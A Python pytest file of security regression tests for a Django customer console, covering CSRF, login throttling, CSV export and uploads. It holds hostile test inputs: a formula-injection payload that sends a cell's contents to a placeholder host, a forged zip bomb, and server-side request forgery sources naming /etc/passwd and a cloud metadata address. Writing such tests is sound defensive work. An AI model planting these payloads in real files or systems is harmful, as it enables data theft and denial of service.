"""Guards: each test here would fail without its guard."""

from __future__ import annotations

import ast
import csv
import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from tests.conftest import ROOT

from tierwise.errors import TierwiseError
from tierwise_console.access import throttle
from tierwise_console.access.permissions import Role
from tierwise_console.crm.models import Customer
from tierwise_console.modelling.services import import_settings
from tierwise_console.runs import receiving
from tierwise_console.runs.settings_file import settings_file
from tierwise_console.strategy.services import add_action

TAKING = {"segment_call", "segment_batch", "ga4_collect", "cloud_events"}
"""Events carry a key of their own and no cookie; nobody's browser can be made to send them in somebody's name."""


def views(patterns: list[Any] | None = None) -> Iterator[Callable[..., Any]]:
    for each in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(each, URLResolver):
            yield from views(each.url_patterns)
        elif isinstance(each, URLPattern):
            yield each.callback


def test_no_view_but_the_takers_of_events_and_the_api_goes_without_a_csrf_token() -> None:
    free = {view.__name__ for view in views() if getattr(view, "csrf_exempt", False)}
    api = {view.__name__ for view in views() if (view.__module__ or "").startswith("ninja")}
    assert free - api == TAKING
    assert len(list(views())) > 60


@pytest.mark.parametrize(
    "address",
    ["/customers/bulk", "/customers/do/note", "/strategy/do/add", "/account/sign-in", "/customers/views/save"],
)
def test_a_form_without_its_token_is_refused(make_user: Callable[..., Any], address: str) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(make_user(Role.OWNER))
    assert client.post(address, {"customer_id": "a", "text": "x"}).status_code == 403


def test_the_api_takes_no_cookie_for_a_key(signed_in: Callable[..., Client]) -> None:
    assert signed_in(Role.OWNER).post("/api/v1/tasks", {"title": "x"}, "application/json").status_code == 401


def rows_of(answer: Any) -> list[list[str]]:
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


BAD = '=HYPERLINK("http://x.example/"&A1)'


def test_no_cell_of_an_exported_list_begins_a_formula(signed_in: Callable[..., Client]) -> None:
    client = signed_in(Role.OWNER)
    for number, start in enumerate("=+-@\t\r"):
        Customer.objects.create(customer_id=f"{start}c{number}", name=f"{start}1+1", region=f"{start}x")
    rows = rows_of(client.get("/customers/export"))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 7
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert [cell for cell in cells if cell.startswith("-") and not cell[1:].replace(".", "").isdigit()] == []


def test_no_cell_of_the_strategy_list_begins_a_formula(signed_in: Callable[..., Client], make_user: Any) -> None:
    add_action(make_user(Role.MARKETING, "ann"), "rfm", "gold", BAD)
    cells = [cell for row in rows_of(signed_in(Role.OWNER).get("/strategy/export")) for cell in row]
    assert f"'{BAD}" in cells and BAD not in cells


def workbook(content: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", content)
    return packed.getvalue()


def lying(packed: bytes, real: int) -> bytes:
    """The workbook with an index that says that its sheet has ten bytes."""
    return packed.replace(struct.pack("<L", real), struct.pack("<L", 10))


@pytest.mark.parametrize("honest", [True, False])
def test_a_workbook_that_unpacks_without_end_is_refused(tmp_path: Path, monkeypatch: Any, honest: bool) -> None:
    monkeypatch.setattr(receiving, "MOST_UNPACKED_BYTES", 1 << 20)
    bomb = workbook(bytes(8 << 20))
    assert len(bomb) < 20_000
    upload = SimpleUploadedFile("a.xlsx", bomb if honest else lying(bomb, 8 << 20))
    with pytest.raises(TierwiseError) as caught:
        receiving.keep(upload, tmp_path / "kept")
    assert caught.value.code == ("upload.bomb" if honest else "upload.not_data")
    assert not (tmp_path / "kept").exists()


def test_an_address_that_guesses_under_many_names_is_refused(make_user: Callable[..., Any]) -> None:
    make_user(Role.OWNER)
    client = Client()
    for number in range(throttle.MOST_BY_ADDRESS):
        client.post("/account/sign-in", {"username": f"u{number}", "password": "wrong", "code": ""})
    right = {"username": "owner", "password": "correct horse battery", "code": ""}
    assert client.post("/account/sign-in", right).status_code == 200, "shown again, not signed in"
    elsewhere = Client(REMOTE_ADDR="192.0.2.7")
    assert elsewhere.post("/account/sign-in", right).status_code == 302


@pytest.mark.parametrize(
    "sources",
    [
        "{orders: {location: /etc/passwd}}",
        "{orders: {location: 'http://169.254.169.254/latest/meta-data', table: orders}}",
        "{orders: {location: 'postgresql://db.internal/shop', table: orders}}",
    ],
)
def test_a_browser_names_no_source_for_this_machine_to_read(
    make_user: Callable[..., Any], settings: Any, tmp_path: Path, sources: str
) -> None:
    from dataclasses import replace

    settings.ENVIRONMENT = replace(settings.ENVIRONMENT, workspace=tmp_path)
    settings_file().write_text("version: 1\nmodels: {rfm: {}}\n", encoding="utf-8")
    with pytest.raises(TierwiseError) as caught:
        import_settings(make_user(Role.OWNER), f"version: 1\nsources: {sources}\nmodels: {{rfm: {{bins: 4}}}}\n")
    assert caught.value.code == "settings.sources_on_screen"


OWN_ADDRESS = {"src/tierwise_console/command/start.py"}
"""Asks its own web process on this machine whether it answers."""
CALLERS = {"urllib.request", "http.client", "requests", "httpx", "aiohttp", "urllib3", "smtplib", "ftplib"}


def test_the_console_opens_no_address_that_a_person_gives() -> None:
    """It has no client of its own to be led astray: sources of the core are the settings file's, which no browser names."""
    found = set()
    for file in sorted((ROOT / "src" / "tierwise_console").rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            if CALLERS & set(names):
                found.add(str(file.relative_to(ROOT)))
    assert found == OWN_ADDRESS
